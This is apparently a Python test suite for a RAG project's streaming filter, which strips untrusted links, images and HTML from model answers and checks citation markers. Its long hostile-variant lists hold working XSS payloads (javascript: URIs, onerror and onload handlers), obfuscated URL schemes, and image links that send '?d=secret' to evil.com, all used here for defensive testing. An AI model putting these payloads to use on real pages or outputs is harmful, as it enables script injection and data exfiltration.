"""The filter between model and reader: independent of the pieces, bounded, quick, and nothing hostile survives it."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ragforge.answer.stream import HELD_AT_MOST, StreamFilter, clean
from tests.proof import count, record
from tests.unit.answer.support import source

OURS = "https://ok.example.org/a?b=1&c=2"
SOURCES = [
    source(1, f"See {OURS} for more. Mail help@ok.example.org.", name="guide.pdf"),
    source(2, "Nothing to see.", name="talk.vtt"),
]

READERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"html": True, "linkify": False})]
LIVE = re.compile(r"(?i)[a-z]:\\?/\\?/|\bwww\.\w|javascript:\w|data:text/|(?<![\w@\\-])evil\.com(?![^\W_]|-)")
ALIVE_IN_TAG = re.compile(r"(?i)src|href|\bon\w+\s*=|style|<\W*(?:script|svg|img|iframe|!|\?)")


def tokens(text: str) -> Iterator[Token]:
    for reader in READERS:
        todo = reader.parse(text)
        while todo:
            token = todo.pop()
            todo += token.children or []
            yield token


def alive(shown: str) -> list[str]:
    """Everything in the text that could make a browser go somewhere, as two readers of Markdown see it."""
    found: list[str] = []
    for token in tokens(shown):
        found.extend(f"{name}={token.attrs[name]}" for name in ("href", "src") if name in token.attrs)
        content = token.content.replace(OURS.replace("&", "&amp;"), "").replace(OURS, "")
        if token.type in ("html_inline", "html_block") and ALIVE_IN_TAG.search(content):
            found.append(token.content)
        if token.type == "text" and LIVE.search(content):
            found.append(token.content)
        if token.type in ("fence", "code_inline", "code_block") and re.search(
            r"(?i)https?:\\?/\\?/|\bwww\.\w", content
        ):
            found.append(token.content)
    return found


def in_pieces(text: str, cuts: list[int]) -> tuple[str, StreamFilter]:
    passing = StreamFilter(SOURCES)
    shown = []
    for start, end in pairwise([0, *sorted(cuts), len(text)]):
        shown.append(passing.feed(text[start:end]))
    return "".join(shown) + passing.end(), passing


# -- markers, links and markup, as they come out


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Thirty days [1].", "Thirty days [1]."),
        ("Thirty days [1, 2].", "Thirty days [1][2]."),
        ("Thirty days [1-2].", "Thirty days [1][2]."),
        ("Thirty days【2】.", "Thirty days[2]."),
        ("Thirty days【1†source】.", "Thirty days[1]."),
        ("Thirty days [^1].", "Thirty days [1]."),
        ("Thirty days [source: guide.pdf].", "Thirty days [1]."),
        ("Thirty days [chunk: c2].", "Thirty days [2]."),
        ("Thirty days [9].", "Thirty days."),
        ("Thirty days [1, 9].", "Thirty days [1]."),
        ("So it says [sic], [x] and [ ].", "So it says [sic], [x] and [ ]."),
        ("In [2024] it was.", "In it was."),
        ("Use `a[0]` here.", "Use `a[0]` here."),
        ("```py\na[0](b) < c\n```\n", "```py\na[0](b) < c\n```\n"),
        ("a < b and 3 <4 <3", "a < b and 3 <4 <3"),
        ("<b>Bold</b>, <i>not</i>.", "Bold, not."),
        ("H<sub>2</sub>O", "H 2 O"),
        ("![a](https://evil.com/x.png) so", "[image removed] so"),
        ("[here](https://evil.com/x) so", "here [link removed] so"),
        (f"[here]({OURS}) so", f"here ({OURS}) so"),
        (f"[{OURS}]({OURS}) so", f"{OURS} so"),
        (f"<{OURS}> so", f"{OURS} so"),
        (f"It is {OURS}.", f"It is {OURS}."),
        (f"It is ({OURS}), so", f"It is ({OURS}), so"),
        (f"{OURS}<b></b>&secret=1", f"{OURS} &secret=1"),
        (f"{OURS}&secret=1", "[link removed]"),
        ("See https://evil.com/a?b. So", "See [link removed]. So"),
        ("Mail help@ok.example.org or bob@evil.com.", "Mail help@ok.example.org or bob[link removed]."),
        ("[the file](guide.md) says", "the file says"),
        ("[1](https://evil.com) says", "[1] [link removed] says"),
        ("`curl https://evil.com/x` so", "`curl [link removed]` so"),
        (f"`curl {OURS}` so", f"`curl {OURS}` so"),
        (
            "C:\\Users\\a, src/main.py:12, v1.2.3, e.g. 3.14, node.js",
            "C:\\Users\\a, src/main.py:12, v1.2.3, e.g. 3.14, node.js",
        ),
        ("AT&amp;T &lt;b&gt; caf&eacute; &copy;", "AT&amp;T &lt;b&gt; caf&eacute; &copy;"),
        ("A\r\nB\rC", "A\nB\nC"),
        ("書桌 [1]。请看 [2]！", "書桌 [1]。请看 [2]！"),
        ("👩‍💻 ❤️ می‌خواهم", "👩‍💻 ❤️ می‌خواهم"),
        ("Data: 5, file: a, note: b", "Data: 5, file: a, note: b"),
        ("Wow! [1] Great![2]", "Wow! [1] Great![2]"),
        ("", ""),
    ],
)
def test_what_is_written_and_what_is_shown(written: str, shown: str) -> None:
    assert clean(written, SOURCES)[0] == shown
    assert in_pieces(written, list(range(len(written))))[0] == shown


def test_it_tells_what_it_removed() -> None:
    _, passed = clean("So [7, 8] ![a](https://evil.com/x.png) <b>x</b> https://evil.com/y [source: no.pdf]", SOURCES)
    assert [each.marker for each in passed.removed] == ["[7]", "[8]", "[source: no.pdf]"]
    assert all(each.reason for each in passed.removed)
    assert [each.split()[0] for each in passed.stripped] == ["image", "HTML", "HTML", "link"]
    assert not alive(" ".join(passed.stripped))


# -- hostile variants

E = "evil.com/x?d=secret"
TARGETS = [
    f"https://{E}", f"HTTPS://{E}", f"http://{E}", f"//{E}", f"ftp://{E}", f"https:\\\\{E}", f"https:/\\{E}",
    f"https:{E}", f"\thttps://{E}", f"https&#58;//{E}", f"https&colon;//{E}", f"&#x68;ttps://{E}", f"ht\u200btps://{E}",
    f"https://ev\u00adil.com/{E}", f"https://user@{E}", "https://[::1]/x", "https://127.0.0.1/x",
    "https://2130706433/x",
    f"https：//{E}", f"https:／／{E}", "https://evil。com/x", "https://еvil.com/x", f"wss://{E}", f"file://{E}",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "vbscript:x",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=", "data:text/html;base64,PHN2Zz4=",
    f"www.{E}", f"blob:https://{E}", "mailto:a@evil.com", f"x://{E}",
]  # fmt: skip
FORMS = ["![a]({0})", "[a]({0})", "<img src='{0}'>", "[r]: {0}\n\n[r] ![r] [a][r]"]
OTHERS = [
    f"https://{E}", f"<https://{E}>", f"www.{E}", "evil.com", "EVIL.COM/x", f"[a](<https://{E}>)",
    f"[a](https://{E} 't')",
    f"![a][r]\n\n[r]: <https://{E}> 'title'", f"![r]\n\n[r]:\nhttps://{E}", f"[^1]\n\n[^1]: https://{E}",
    f"[![a](https://{E})](https://{E})", f"[a\\]](https://{E})", f"[a](\nhttps://{E}\n)", f"[a\nb](https://{E})",
    f"!\\[a](https://{E})", f"![a\n](https://{E})", f"![]({'(' * 5}https://{E}{')' * 5})", f"[a] (https://{E})",
    f"<a href=https://{E}>x</a>", f"<a\nhref='https://{E}'\n>x</a>", f"<<a>a href='https://{E}'>",
    f"<scr<b>ipt src=//{E}>",
    f"<svg onload=fetch('https://{E}')>", f"<svg><image href=https://{E} /></svg>",
    f"<iframe src=https://{E}></iframe>",
    f"<!-- <img src=https://{E}> -->", f"<!--><img src=https://{E}>", f"<style>@import 'https://{E}';</style>",
    f"<div style=\"background:url(//{E})\">", f"<video poster=//{E}>", f"<base href=https://{E}>",
    f"<form action=//{E}>",
    f"<meta http-equiv=refresh content='0;url=https://{E}'>", f"<link rel=stylesheet href=//{E}>",
    f"<object data=//{E}>",
    f"<img src=x onerror=\"location='https://{E}'\">", f"<img alt='>' src='https://{E}'>",
    f"<img alt='<' src='https://{E}'>",
    f"&lt;img src=https://{E}&gt;", f"&#60;img src=https://{E}&#62;", f"ht<b></b>tps://{E}", f"https:<b></b>//{E}",
    f"ht[9]tps://{E}", f"ht![a](b)tps://{E}", f"https[9]://{E}", "evil[9].com", "evil<b></b>.com",
    "www<i></i>.evil.com",
    f"{OURS}<b></b>&d=secret", f"{OURS}[9]&d=secret", f"{OURS}<b>/../../secret", f"[a]({OURS}&d=secret)",
    f"![a]({OURS})",
    f"[r]: {OURS}\n\n![r]", f"<img src='{OURS}'>", f"`a\n![a](https://{E})`", f"`![a](https://{E})`",
    f"``` ![a](https://{E})",
    f"   ```\n<img src=https://{E}>\n```\n<img src=//{E}>", f"- ```\n<img src=https://{E}>",
    f"> ```\n<img src=https://{E}>",
    "- a\n\n  ```\n<img src=x onerror=alert(1)>", f"~~~ a\n~~~\n![a](https://{E})", f"$$\n```\n$$\n![a]({OURS})",
    f"| `a | ![a](https://{E}) | b` |\n|---|---|---|\n| `<img src=//{E}>` | `<a | href=//{E}>` |",
    f"    ![a](https://{E})",
    f"&#&#49;04;ttps://{E}", f"https&co&#108;on;//{E}", "www&per&#105;od;evil.com", f"&#x0000068;ttps://{E}",
    f"&#104ttps://{E}",
    f"h\u200dttps://{E}", f"h\ufe0fttps://{E}", f"\U000e0068https://{E}", f"\u202ehttps://{E}", f"ｈｔｔｐｓ://{E}",
    f"𝐡𝐭𝐭𝐩𝐬://{E}",
    f"https\\://{E}", f"https:\\/\\/{E}", "www\\.evil.com", "evil\\.com", f"**https**://{E}", f"*[a](https://{E})*",
    f"{'a' * 600}https://{E}", f"https://{'a' * 900}.{E}", f"![{'a' * 400}](https://{E})",
    f"[a]({' ' * 2000}https://{E})",
    f"<img {' ' * 2500} src=https://{E}>", f"a\rhttps://{E}", f"a\u2028https://{E}", f"\\<img src=https://{E}>",
    "\\\\evil.com\\x",
    f"[a]: https://{E}", f"[a]:https://{E}", f"> [a]: https://{E}\n\n[a]", f"1. [a]: <//{E}>\n\n![a]",
    f"{{https://{E}}}",
    f"'https://{E}'", f"|https://{E}|", f"(https://{E})", f"\"https://{E}\"", f"x=https://{E}", f"【https://{E}】",
]  # fmt: skip
HOSTILE = [form.format(target) for form in FORMS for target in TARGETS] + OTHERS


def test_there_are_enough_hostile_variants() -> None:
    assert len(set(HOSTILE)) >= 150
    assert sum(bool(alive(each)) for each in HOSTILE) > 120  # the judge sees what is wrong with them


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_remote_target_survives(hostile: str) -> None:
    for written in (
        hostile,
        f"So it is. {hostile} And more.",
        f"A list:\n\n- {hostile}\n- b",
        f"```\na\n```\n{hostile}",
    ):
        shown = clean(written, SOURCES)[0]
        assert not alive(shown), shown
        assert in_pieces(written, list(range(len(written))))[0] == shown


# -- any text, in any pieces

PIECES = [
    *"[]()<>!`&#:/.@\\|*_'\"=-$~", "```", "~~~", "\n", "\n\n", " ", "    ", "\n```\n", "```py\n", "- ", "> ", "1. ",
    "|---|\n",
    "104;", "&#104;", "ttps", "//", "https://", "evil.com", "www.", "evil", ".com", "[1]", "[9]",
    "[x]: ", OURS, "<b>", "</b>",
    "<img src=", "a", "\u200b", "\u200d", "é", "\r", "<!--", "-->", "javascript:", "data:text/html,", "【", "】",
    "secret", "&co",
    "lon;", "&period;", "&#x2f;", "：", "／", "。", "?q=", "<a href=", "onclick=x ", "script", "source: guide.pdf",
    "chunk: c1",
    "a" * 130, "x " * 20, "^1", "1, 2",
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=40).map("".join)


@settings(max_examples=count(400, 20_000), deadline=None)
@given(texts, st.data())
def test_pieces_do_not_matter_and_nothing_comes_alive(text: str, data: st.DataObject) -> None:
    whole, passed = clean(text, SOURCES)
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=30))
    for shown, passing in (in_pieces(text, cuts), in_pieces(text, list(range(len(text))))):
        assert shown == whole
        assert passing.removed == passed.removed
        assert passing.stripped == passed.stripped
    assert not alive(whole)
    if not {"`", "~"} & set(whole):  # else brackets may be code
        assert set(re.findall(r"\[(\d+)\]", whole)) <= {"1", "2"}


@settings(max_examples=count(100, 2_000), deadline=None)
@given(texts)
def test_no_more_is_held_back_than_it_says(text: str) -> None:
    passing = StreamFilter(SOURCES)
    for sign in text * 10:
        passing.feed(sign)
        assert len(passing._held) <= HELD_AT_MOST


def test_plain_words_come_at_once() -> None:
    passing = StreamFilter(SOURCES)
    assert passing.feed("Desks can be returned within ") == "Desks can be returned within"
    assert passing.feed("30") == " "
    assert passing.feed(" days [1") == "30 days"
    assert passing.feed("]. ") == " [1]."


# -- speed


@pytest.mark.parametrize(
    "bad",
    ["[", "<", "`", "!", "![", "](", "<a", "<!--", "&", "&#", "[1]", "a", "a.", "a:", "//", "`a", "``a`", "(", "~",
    "\n```", "[a](", "@a."],
)  # fmt: skip
def test_a_megabyte_of_one_sign_ends_quickly(bad: str) -> None:
    text = (bad * (1_000_000 // len(bad)))[: count(100_000, 1_000_000)]
    begun = time.process_time()
    clean(text, SOURCES)
    assert time.process_time() - begun < 6


def test_it_is_quick() -> None:
    text = (
        "Desks can be returned within 30 days of delivery, if they were not used [1]. The price is paid back to the "
        "card that was charged [2], usually within a week (see section 4.2). Don't send it back without the form!\n\n"
    ) * count(4_000, 20_000)
    begun = time.process_time()
    shown, _ = clean(text, SOURCES)
    speed = len(text) / (time.process_time() - begun) / 1e6
    assert shown == text
    record("answer_filter", megabytes_per_second=round(speed, 1))
    assert speed > 1  # about three on a shared machine
